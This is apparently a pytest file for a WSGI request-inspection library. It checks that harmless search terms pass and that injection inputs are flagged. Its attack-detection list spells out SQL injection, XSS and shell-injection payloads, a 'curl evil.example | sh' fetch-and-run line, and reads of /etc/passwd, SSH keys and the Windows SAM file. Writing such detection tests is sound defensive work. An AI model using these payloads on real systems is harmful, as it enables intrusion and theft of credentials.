"""People search for names of programs; where a field runs or opens them they are attacks."""

from __future__ import annotations

import json
from urllib.parse import quote

import pytest

from guard_wsgi.detection import Finding, Inspection
from guard_wsgi.detection.relaxations.terms import is_term
from guard_wsgi.detection.value import Value
from tests.detection.requests import environ

TERMS = r"""
eval()
exec()
python eval()
sleep(5)
mysql sleep()
what is information_schema
how to use group_concat
char(10)
version()
alert('hi')
console.log("done")
information_schema
information_schema.columns
union all select
load data infile
drop table
having count(*) > 1
group by 1
SELECT VERSION();
EXEC sp_help
xp_cmdshell
__proto__
constructor.prototype
document.cookie
window.location.href
innerHTML
onerror
javascript:void(0)
$where
$gt
$_SERVER
(cn=*)
java.lang.String
java.lang.NullPointerException
java.util.HashMap
java.io.IOException
return false;
while(true)
module.exports = slugify;
<?php
<%=
whoami
ipconfig
ipconfig /flushdns
netstat -an
ping 8.8.8.8
traceroute example.com
nslookup example.com 1.1.1.1
echo $HOME
%USERPROFILE%
${HOME}
cd ../..
chmod 777
git pull && docker compose up -d
npm ci && npm run build
C:\Windows
C:\Windows\Fonts
C:\Program Files\Common Files
/etc/nginx
/usr/local/bin
/var/log
/dev/null
/dev/ttyUSB0
/sys/class/gpio
../
.htaccess
web.config
<iframe>
</body>
<p onclick>
&lt;script&gt;
<!DOCTYPE html>
';
");
""".strip().splitlines()

PHRASES = """
document.cookie samesite
javascript:void(0) meaning
xp_cmdshell enable
phpinfo() disable
__proto__ vs prototype
constructor.prototype javascript
how to use eval() in python?
information_schema.tables size in mysql
java.lang.NullPointerException in Kotlin
what is $_SERVER in php?
<iframe> responsive width
difference, __init__ vs. __new__
load_file permission denied
""".strip().splitlines()

PATHS = r"""
/etc/nginx/nginx.conf
/etc/ssh/sshd_config
/var/log/syslog
/home/ann/projects/site/settings.py
/proc/cpuinfo
C:\Users\Ann\AppData\Local\Temp
D:\Backup\site\config.ini
""".strip().splitlines()


def said_of(inspection: Inspection, name: str, text: str) -> tuple[Finding, ...]:
    """Findings in a value under a name: in the query, a form and a document."""
    form = f"token=x&{quote(name)}={quote(text, safe='')}"
    document = json.dumps({"id": 5, name: text}).encode()
    return (
        *inspection.head(environ(query=f"page=2&{quote(name)}={quote(text, safe='')}")),
        *inspection.body(form.encode(), content_type="application/x-www-form-urlencoded"),
        *inspection.body(document, content_type="application/json"),
    )


@pytest.mark.parametrize("text", TERMS)
def test_the_name_of_a_thing_may_be_searched_for(inspection: Inspection, text: str) -> None:
    for name in ("q", "search", "title", "comment", "tags"):
        assert not said_of(inspection, name, text), name
        assert not said_of(inspection, name, f" {text.upper()} "), name


@pytest.mark.parametrize("text", PHRASES)
def test_it_may_stand_among_words(inspection: Inspection, text: str) -> None:
    for name in ("q", "search", "title", "comment"):
        assert not said_of(inspection, name, text), name


@pytest.mark.parametrize("text", PATHS)
def test_a_path_may_be_written_where_people_write(inspection: Inspection, text: str) -> None:
    for name in ("q", "title", "comment", "description"):
        assert not said_of(inspection, name, text), name


@pytest.mark.parametrize(
    ("name", "text"),
    [
        ("cmd", "whoami"),
        ("command", "ifconfig"),
        ("exec", "ping 8.8.8.8"),
        ("host", "whoami"),
        ("id", "sleep(5)"),
        ("user_id", "sleep(5)"),
        ("sort", "sleep(5)"),
        ("template", "/etc/nginx/nginx.conf"),
        ("file", "/etc/nginx/nginx.conf"),
        ("doc_path", "/var/log/syslog"),
        ("class", "java.lang.String"),
    ],
)
def test_a_field_that_runs_or_opens_what_it_holds_takes_no_term(
    inspection: Inspection, name: str, text: str
) -> None:
    assert said_of(inspection, name, text)


@pytest.mark.parametrize("wrapped", ['{"q": "%s"}', "x=1&cmd=%s"])
def test_the_names_within_a_value_are_the_senders_own(inspection: Inspection, wrapped: str) -> None:
    assert said_of(inspection, "cmd", wrapped % "/etc/nginx/nginx.conf")


@pytest.mark.parametrize(
    "text",
    [
        "1 and sleep(5)",
        "1;sleep(5)",
        "' union all select",
        "1 union all select null,version()",
        "1 or null is null",
        "eval(atob('YWxlcnQoMSk='))",
        "alert(document.cookie)",
        "$(pwd)",
        "$(whoami)",
        "`whoami`",
        ";whoami",
        "|| whoami",
        "x && whoami",
        "ping 8.8.8.8; cat /etc/passwd",
        "ping 8.8.8.8 | sh",
        "cd ../.. && cat /etc/passwd",
        "npm ci && curl evil.example | sh",
        "echo $HOME > /var/www/x.php",
        "echo $SECRET_KEY; id",
        "/etc/passwd",
        "/home/ann/.ssh/id_rsa",
        "/proc/self/environ",
        "/var/log/../../etc/passwd",
        "C:\\Windows\\System32\\config\\SAM",
        "../../etc/passwd",
        "java.lang.Runtime",
        "java.lang.ProcessBuilder",
        "javascript:alert(1)",
        "module.exports = require('child_process').exec('id')",
        "(cn=*)(uid=*))(|(uid=*",
        "<script>alert(1)</script>",
        "<p onclick=alert(1)>",
        "<iframe src=//e.example>",
        "'; drop table users --",
        "EXEC sp_configure 'xp_cmdshell', 1; RECONFIGURE",
        "xp_cmdshell('dir')",
        "1 or version()",
        "x or sleep(5)",
        "phpinfo()",
        "id union all select password from users",
        "document.cookie\nalert(1)",
        "javascript:alert(1) meaning",
        "<svg onload=alert(1)> tag",
    ],
)
def test_what_does_more_than_name_a_thing_is_no_term(inspection: Inspection, text: str) -> None:
    assert not is_term(Value("query", "q", text))
    assert said_of(inspection, "q", text)


def test_a_term_is_one_in_fields_only(inspection: Inspection) -> None:
    assert inspection.head(environ(path="/items/$(whoami)"))
    for location in ("path", "header", "cookie", "xml", "graphql"):
        assert not is_term(Value(location, "q", "whoami"))


@pytest.mark.parametrize(
    "text",
    [
        "docker compose up --build && npm start",
        "/etc/nginx/sites--old/x.conf",
        "/srv/my--site/index.html",
    ],
)
def test_two_dashes_within_a_term_are_none_of_sql(inspection: Inspection, text: str) -> None:
    assert not said_of(inspection, "q", text)
